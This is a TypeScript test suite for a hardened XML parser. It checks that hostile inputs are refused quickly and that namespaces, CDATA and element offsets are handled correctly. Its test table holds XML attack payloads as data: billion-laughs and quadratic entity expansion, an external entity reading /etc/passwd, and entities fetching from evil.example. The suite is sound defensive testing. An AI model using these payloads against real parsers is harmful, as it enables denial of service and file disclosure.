import { describe, expect, test } from 'vitest'
import { findAll, readXml } from '../../../main/protocol/xml.ts'
import { outcomeOf } from '../../support/fixtures.ts'
import { leastProcessorTime } from '../../support/processor-time.ts'

const HARMLESS_MEGABYTE = `<r>${'<a b="1">text</a>\n'.repeat(60_000)}</r>`

const laughs = (of: (level: number) => string) =>
  Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${of(level)}">`).join('')

describe('the XML reader', () => {
  test.each([
    [
      'a billion laughs (nested entities)',
      `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs((n) => `&l${n};`.repeat(10))}]><x>&l10;</x>`,
      'doctype-refused',
    ],
    [
      'a quadratic blow-up (a long entity, used often)',
      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]><x>${'&a;'.repeat(50_000)}</x>`,
      'doctype-refused',
    ],
    [
      'an external entity',
      '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
      'doctype-refused',
    ],
    [
      'a parameter entity',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><x/>',
      'doctype-refused',
    ],
    ['an external document type', '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>', 'doctype-refused'],
    ['an undeclared entity', '<x>&nbsp;</x>', 'not-xml'],
    ['10,000 levels', '<a>'.repeat(10_000) + '</a>'.repeat(10_000), 'too-deep'],
    ['10,000 levels with a namespace each', '<a xmlns:b="urn:b">'.repeat(10_000), 'too-deep'],
    [
      '20,000 attributes',
      `<x ${Array.from({ length: 20_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`,
      'too-many-attributes',
    ],
    ['50 MB', `<x>${'x'.repeat(50 * 1024 * 1024)}</x>`, 'too-long'],
    ['an attribute twice', '<x a="1" a="2"/>', 'not-xml'],
    ['an attribute twice by two prefixes', '<x xmlns:a="urn:u" xmlns:b="urn:u" a:y="1" b:y="2"/>', 'not-xml'],
    ['an undeclared prefix', '<a:x/>', 'not-xml'],
    ['an undeclared prefix that is a property of every object', '<constructor:x/>', 'not-xml'],
    ['an empty prefix', '<:x xmlns="urn:d"/>', 'not-xml'],
    ['an empty prefix of an attribute', '<x xmlns="urn:d" :y="1"/>', 'not-xml'],
    ['an empty prefix bound to a namespace', '<x xmlns:="urn:d"/>', 'not-xml'],
    ['a prefix with a colon', '<x xmlns:a:b="urn:d"/>', 'not-xml'],
    ['a prefix bound to nothing', '<a:x xmlns:a=""/>', 'not-xml'],
    ['the prefix xml bound to something else', '<x xmlns:xml="urn:x"/>', 'not-xml'],
    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>', 'not-xml'],
    ['two roots', '<a/><b/>', 'not-xml'],
    ['text after the root', '<a/>text', 'not-xml'],
    ['an empty text', '', 'not-xml'],
    ['a tag that is not closed', '<a><b></a>', 'not-xml'],
  ])('refuses %s sooner than it reads a harmless megabyte', (_what, xml, code) => {
    const { refusing, reading } = leastProcessorTime(
      {
        refusing: () => expect(outcomeOf(readXml, xml)).toBe(code),
        reading: () => readXml(HARMLESS_MEGABYTE),
      },
      (least) => least.refusing < least.reading,
    )
    expect(refusing).toBeLessThan(reading)
  })

  test('finds elements by namespace, with any prefix', () => {
    const root = readXml(
      '<r><a:x xmlns:a="urn:1">one</a:x><x xmlns="urn:1">two</x><x xmlns="urn:2">three</x></r>',
    )
    expect(findAll(root, 'urn:1', 'x').map(({ text }) => text)).toEqual(['one', 'two'])
  })

  test('takes a prefix that is a property of every object, and an empty default namespace', () => {
    const root = readXml('<r xmlns="urn:d" xmlns:__proto__="urn:p"><__proto__:x/><y xmlns=""/></r>')
    expect(root.children.map(({ uri, local }) => [uri, local])).toEqual([
      ['urn:p', 'x'],
      ['', 'y'],
    ])
  })

  test('reads character references and CDATA as text, and leaves out comments and instructions', () => {
    expect(readXml('<r>&#70;&#x65;<![CDATA[<d>]]><!-- no --><?no no?>&amp;</r>').text).toBe('Fe<d>&')
  })

  test('checks the form of the elements that it leaves out, and keeps what follows them', () => {
    const without = (_uri: string, local: string) => local === 'skip'
    const root = readXml('<r><skip><deep/>text</skip><kept>k</kept></r>', { without })
    expect(root.children.map(({ local, text }) => [local, text])).toEqual([['kept', 'k']])
    expect(root.text).toBe('')
    expect(() => readXml('<r><skip><deep></skip></r>', { without })).toThrow()
  })

  test('stops reading after the element that is enough', () => {
    const root = readXml('<r><a><b>1</b></a><c>', { enough: ({ local }) => local === 'a' })
    expect(findAll(root, '', 'b').map(({ text }) => text)).toEqual(['1'])
    expect(() => readXml('<r><c></r>', { enough: ({ local }) => local === 'a' })).toThrow()
  })

  test('gives the place of an element, so that it can be cut out byte for byte', () => {
    const source = '\uFEFF<r xmlns="urn:r">\n <x:a xmlns:x="urn:x"  b=\'1\'>t<c/><![CDATA[<&]]></x:a  ></r>'
    const [a] = readXml(source).children
    expect(source.replace('\uFEFF', '').slice(a?.start, a?.end)).toBe(
      '<x:a xmlns:x="urn:x"  b=\'1\'>t<c/><![CDATA[<&]]></x:a  >',
    )
    expect(a).toMatchObject({ uri: 'urn:x', local: 'a', text: 't<&' })
  })

  test('reads an xsi:type with an undeclared prefix as none, and does not refuse the document', () => {
    const root = readXml(
      '<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><x i:type="p:T"/><x i:type="a:b:c"/><x i:type=" "/></r>',
    )
    expect(root.children.map(({ type }) => type)).toEqual([null, null, null])
  })

  test('resolves an xsi:type with the namespaces of its own element', () => {
    const root = readXml(
      '<r xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><x xmlns:p="urn:p" i:type="p:T"/><x xmlns="urn:d" i:type="T"/></r>',
    )
    expect(root.children.map(({ type }) => type)).toEqual(['{urn:p}T', '{urn:d}T'])
  })
})
